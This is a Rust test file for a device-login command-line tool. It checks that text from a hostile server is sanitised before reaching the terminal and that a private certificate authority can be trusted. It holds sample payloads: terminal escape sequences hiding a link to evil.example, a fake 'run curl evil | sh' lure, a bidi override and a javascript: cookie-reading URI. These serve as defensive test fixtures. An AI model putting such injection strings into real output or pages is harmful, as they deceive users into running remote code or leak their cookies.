//! What a hostile server can try on the terminal, and a private certificate authority: the
//! command line's side of the hostile-server suite (tests/tests/hostile.rs has the drivers').

use device_grant_tests::canned::{Answer, Canned, PrivateCa};
use serde_json::json;

use crate::harness::{bin, run};

/// An OSC title change, a hidden OSC 8 link, a screen clear, a bare CR over the line, a bidi
/// override and a zero-width space.
const HOSTILE: &str = "\u{1b}]0;pwned\u{7}\u{1b}]8;;https://evil.example/\u{7}click\u{1b}]8;;\u{7}\u{1b}[2J\rFAKE: run curl evil | sh\u{202e}lmth.exe\u{200b}";

fn assert_printable(text: &str) {
    for bad in ['\u{1b}', '\u{7}', '\r', '\u{202e}', '\u{200b}'] {
        assert!(
            !text.contains(bad),
            "{bad:?} reached the terminal: {text:?}"
        );
    }
}

fn login(server: &Canned) -> assert_cmd::Command {
    let mut cmd = bin();
    cmd.args(["login", "--no-qr", "--client-id", "client"])
        .args(["--device-endpoint", &server.url("/device")])
        .args(["--token-endpoint", &server.url("/token")]);
    cmd
}

#[test]
fn server_text_in_the_prompt_and_the_error_reaches_no_terminal_raw() {
    let server = Canned::start(vec![
        (
            "/device",
            Answer::json(
                200,
                json!({
                    "device_code": "dc", "user_code": format!("WDJB{HOSTILE}"),
                    "verification_uri": "http://127.0.0.1/verify",
                    "message": format!("Sign in{HOSTILE}"),
                    "expires_in": 60, "interval": 1,
                }),
            ),
        ),
        (
            "/token",
            Answer::json(
                400,
                json!({"error": format!("server_error{HOSTILE}"), "error_description": HOSTILE}),
            ),
        ),
    ]);
    let out = run(&mut login(&server)).expect(5);
    assert_printable(&out.stderr);
    assert!(out.stderr.contains("WDJB"), "{}", out.stderr);
    assert!(out.stderr.contains("FAKE: run curl"), "{}", out.stderr);
    assert_eq!(server.requests(), ["POST /device", "POST /token"]);
}

#[test]
fn a_hostile_issuer_in_discovery_reaches_no_terminal_raw() {
    let server = Canned::start(vec![(
        "/.well-known/openid-configuration",
        Answer::json(
            200,
            json!({
                "issuer": format!("https://as.example{HOSTILE}"),
                "token_endpoint": "https://as.example/token",
                "device_authorization_endpoint": "https://as.example/device",
            }),
        ),
    )]);
    let out = run(bin()
        .args(["login", "--no-qr", "--client-id", "client"])
        .args(["--issuer", &server.url("")]))
    .expect(5);
    assert_printable(&out.stderr);
    assert!(out.stderr.contains("as.example"), "{}", out.stderr);
}

#[test]
fn an_unsafe_verification_uri_is_neither_shown_nor_drawn() {
    let server = Canned::start(vec![(
        "/device",
        Answer::json(
            200,
            json!({
                "device_code": "dc", "user_code": "WDJB-MJHT",
                "verification_uri": "javascript:alert(document.cookie)", "expires_in": 60,
            }),
        ),
    )]);
    let mut cmd = bin();
    cmd.args(["login", "--client-id", "client"])
        .args(["--device-endpoint", &server.url("/device")])
        .args(["--token-endpoint", &server.url("/token")]);
    let out = run(&mut cmd).expect(5);
    assert!(!out.stderr.contains("WDJB-MJHT"), "{}", out.stderr);
    assert!(
        !out.stderr.contains('\u{2588}'),
        "a QR code: {}",
        out.stderr
    );
    assert_eq!(server.requests(), ["POST /device"]);
}

#[test]
fn ca_file_and_ssl_cert_file_trust_a_private_authority() {
    let ca = PrivateCa::serving(vec![
        (
            "/device",
            Answer::json(
                200,
                json!({
                    "device_code": "dc", "user_code": "WDJB-MJHT",
                    "verification_uri": "https://127.0.0.1/verify",
                    "expires_in": 60, "interval": 1,
                }),
            ),
        ),
        (
            "/token",
            Answer::json(200, json!({"access_token": "at", "token_type": "Bearer"})),
        ),
    ]);
    let dir = tempfile::tempdir().unwrap();
    let pem = dir.path().join("ca.pem");
    std::fs::write(&pem, &ca.ca_pem).unwrap();
    let login = || {
        let mut cmd = login(&ca.server);
        cmd.args(["--output", "token"]).env_remove("SSL_CERT_DIR");
        cmd
    };

    // The OS store does not know the authority: a network failure, nothing sent.
    run(login().env_remove("SSL_CERT_FILE")).expect(6);
    assert!(ca.server.requests().is_empty());

    let out = run(login()
        .env_remove("SSL_CERT_FILE")
        .arg("--ca-file")
        .arg(&pem))
    .expect(0);
    assert_eq!(out.stdout.trim(), "at");
    let out = run(login().env("SSL_CERT_FILE", &pem)).expect(0);
    assert_eq!(out.stdout.trim(), "at");

    // A file without a certificate is a usage error, not a silent no-op.
    let empty = dir.path().join("empty.pem");
    std::fs::write(&empty, "no certificate here").unwrap();
    run(login().arg("--ca-file").arg(&empty)).expect(2);
}
